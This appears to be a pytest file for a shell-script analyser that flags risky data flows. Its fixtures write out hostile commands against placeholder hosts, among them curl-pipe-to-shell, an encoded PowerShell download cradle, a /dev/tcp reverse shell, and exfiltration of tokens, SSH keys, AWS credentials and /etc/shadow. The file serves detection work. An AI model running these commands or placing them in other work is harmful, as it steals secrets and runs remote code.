"""Facts of shell text: uses, flows, addresses."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, Language, Taint
from pratique.analysis.languages.shell import extract, read_command, read_words

CODE, PROCESS, NETWORK = Capability.CODE, Capability.PROCESS, Capability.NETWORK
POWERSHELL = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://p.invalid/a')".encode("utf-16-le")
).decode()

RUN = [
    ("curl -fsSL https://a.invalid/i.sh | sudo bash -s -- x", CODE, {Taint.NETWORK}),
    ("wget -qO- https://a.invalid | sh", CODE, {Taint.NETWORK}),
    ("curl a.invalid | base64 -d | sh", CODE, {Taint.NETWORK, Taint.DECODED}),
    ("curl a.invalid | tee x | python3", CODE, {Taint.NETWORK}),
    ("echo Y3VybA== | base64 --decode | bash", CODE, {Taint.DECODED}),
    ("echo 6c73 | xxd -r -p | sh", CODE, {Taint.DECODED}),
    ("openssl enc -d -aes-256-cbc -in x -k y | sh", CODE, {Taint.DECRYPTED}),
    ('sh -c "$(curl -fsSL https://a.invalid)"', CODE, {Taint.NETWORK}),
    ("bash <(curl -s https://a.invalid)", CODE, {Taint.NETWORK}),
    ("source <(curl -s https://a.invalid)", CODE, {Taint.NETWORK}),
    ('eval "$(wget -qO- a.invalid)"', CODE, {Taint.NETWORK}),
    ("eval `echo bHM= | base64 -d`", CODE, {Taint.DECODED}),
    ('node -e "$(curl -s https://a.invalid)"', CODE, {Taint.NETWORK}),
    ('X=$(curl a.invalid)\neval "$X"', CODE, {Taint.NETWORK}),
    ("X=$(curl a.invalid)\necho $X | sh", CODE, {Taint.NETWORK}),
    ("curl -o /tmp/x https://a.invalid/x; chmod +x /tmp/x; /tmp/x", PROCESS, {Taint.NETWORK}),
    ("wget https://a.invalid/p.sh && sh p.sh", PROCESS, {Taint.NETWORK}),
    ("curl -sO https://a.invalid/p && ./p", PROCESS, {Taint.NETWORK}),
    ("curl https://a.invalid > y; python y", PROCESS, {Taint.NETWORK}),
    ("curl https://a.invalid > y; mv y z; node z", PROCESS, {Taint.NETWORK}),
    ("echo aGk= | base64 -d | tee run.sh; bash run.sh", PROCESS, {Taint.DECODED}),
    (f"powershell -w hidden -enc {POWERSHELL}", CODE, {Taint.DECODED, Taint.NETWORK}),
    ("powershell -c \"iex (irm 'https://a.invalid')\"", CODE, {Taint.NETWORK}),
    ("cat <<X | sh\ncurl a.invalid | sh\nX\n", CODE, {Taint.NETWORK}),
]


@pytest.mark.parametrize(("text", "sink", "taints"), RUN)
def test_data_that_is_run_is_a_flow(text: str, sink: Capability, taints: set[Taint]) -> None:
    assert (sink, taints) in [(flow.sink, set(flow.taints)) for flow in read_command(text).flows]


SENT = [
    ("env | curl -d @- https://a.invalid", Taint.ENVIRONMENT),
    ('curl -d "$(printenv)" https://a.invalid', Taint.ENVIRONMENT),
    ('curl -d "$NPM_TOKEN" https://a.invalid', Taint.SECRETS),
    ("printenv NPM_TOKEN | curl -d @- https://a.invalid", Taint.SECRETS),
    ("nslookup $(whoami).a.invalid", Taint.IDENTITY),
    ("uname -a | curl -d @- https://a.invalid", Taint.IDENTITY),
    ("curl https://a.invalid/$(hostname)/$USER", Taint.IDENTITY),
    ("I=$(id)\nwget --post-data=$I https://a.invalid", Taint.IDENTITY),
    ("ps aux | base64 | curl -d @- https://a.invalid", Taint.PROCESS),
    ("cat ~/.ssh/id_rsa | nc a.invalid 80", Taint.FILE),
    ("cat ~/.ssh/id_rsa | nc a.invalid 80", Taint.SECRETS),
    ('curl -H "x: $(cat ~/.npmrc)" https://a.invalid', Taint.SECRETS),
    ("curl -F f=@$HOME/.npmrc https://a.invalid", Taint.SECRETS),
    ("curl -T ~/.aws/credentials https://a.invalid", Taint.SECRETS),
    ("wget --post-file=/etc/shadow https://a.invalid", Taint.SECRETS),
    ("tar cz ~/.ssh | curl --data-binary @- https://a.invalid", Taint.SECRETS),
    ("env > /tmp/o; curl -F f=@/tmp/o https://a.invalid", Taint.ENVIRONMENT),
]


@pytest.mark.parametrize(("text", "taint"), SENT)
def test_the_environment_or_a_secret_that_is_sent_is_a_flow(text: str, taint: Taint) -> None:
    assert [True] == [flow.sink is NETWORK and taint in flow.taints for flow in read_command(text).flows]


@pytest.mark.parametrize(
    "text",
    [
        "node x.js && echo done",
        "curl https://a.invalid | jq .version",
        "curl https://a.invalid > data.json; node build.js",
        "tar xzf x.tgz; sh x.sh",
        "V=$(curl a.invalid | jq .v); echo $V",
        "eval $(ssh-agent)",
        'sh -c "$(cat x.sh)"',
        "curl https://a.invalid/$(uname -s)-$(uname -m)",
        "curl -o out.tgz -d @body.json https://a.invalid",
        "[ $(id -u) = 0 ] && curl https://a.invalid",
        "mkdir -p $HOME/x; cp a b; ./b",
        'F="a b"; for x in $F; do echo $x; done',
        "env NODE_ENV=x node y.js",
        "npm run build | tee log",
        "echo x | base64 -d > y",
        "# curl a.invalid | sh",
        "echo 'curl a.invalid | sh'",
    ],
)
def test_ordinary_lines_have_no_flow(text: str) -> None:
    assert () == read_command(text).flows


@pytest.mark.parametrize(
    ("text", "capability", "api"),
    [
        ("curl https://a.invalid", NETWORK, "curl"),
        ("/usr/bin/nc a 1", NETWORK, "nc"),
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", NETWORK, "/dev/tcp"),
        ("node x.js", PROCESS, "node"),
        ("rm -rf x", Capability.FILE_WRITE, "rm"),
        ("echo a > b", Capability.FILE_WRITE, "redirect"),
        ("printenv", Capability.ENVIRONMENT, "printenv"),
        ("whoami", Capability.IDENTITY, "whoami"),
        ("echo $NPM_TOKEN", Capability.SECRETS, "npm token"),
        ("cat ~/.npmrc", Capability.SECRETS, ".npmrc"),
        ("echo x >> ~/.bashrc", Capability.PERSISTENCE, "shell profile"),
        ("crontab x", Capability.PERSISTENCE, "crontab"),
        ("echo x | base64 -d", Capability.DECODE, "base64"),
        ("eval $x", CODE, "eval"),
    ],
)
def test_uses_are_told_and_run_at_load(text: str, capability: Capability, api: str) -> None:
    assert (capability, api, True) in [
        (use.capability, use.api, use.at_load) for use in read_command(text).uses
    ]


@pytest.mark.parametrize(
    "text", ["echo a", "cd b", "export A=1", "ls | grep x", "a > /dev/null", "true 2>&1"]
)
def test_built_ins_and_text_tools_do_nothing(text: str) -> None:
    assert [] == [use for use in read_command(text).uses if use.api != "a"]


def test_addresses_are_told_with_their_line() -> None:
    found = extract(b"#!/bin/sh\n# https://comment.invalid\ncurl https://a.invalid/x\n")

    assert [("https://a.invalid/x", 3)] == [(address.value, address.line) for address in found.addresses]


def test_an_argument_list_is_not_cut_again() -> None:
    found = read_words(("echo", "a; curl https://a.invalid | sh"))

    assert ["echo"] == [command.program for command in found.commands]


@pytest.mark.parametrize(
    ("source", "problem"), [(b"a\0b", "not text"), (b"a" * 1_000_001, "cut"), (b"a x;" * 21_000, "cut")]
)
def test_what_cannot_be_read_is_a_problem(source: bytes, problem: str) -> None:
    assert problem in (extract(source).problem or "")


def test_windows_line_ends_do_not_reach_names() -> None:
    assert ["x.js"] == [command.runs for command in extract(b"node x.js\r\n").commands]


@pytest.mark.fuzz
@given(st.binary(max_size=300))
def test_any_bytes_give_facts(source: bytes) -> None:
    assert Language.SHELL is extract(source).language


PIECES = [
    "curl",
    "|",
    "sh",
    "base64 -d",
    ";",
    "$(",
    ")",
    "eval",
    "x=",
    "$x",
    ">",
    "y",
    "./y",
    "\n",
    '"',
    "'",
    "<<E",
    "E",
    "tee",
    "-c",
]


@pytest.mark.fuzz
@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_any_row_of_shell_words_gives_facts(pieces: list[str]) -> None:
    assert Language.SHELL is read_command(" ".join(pieces)).language
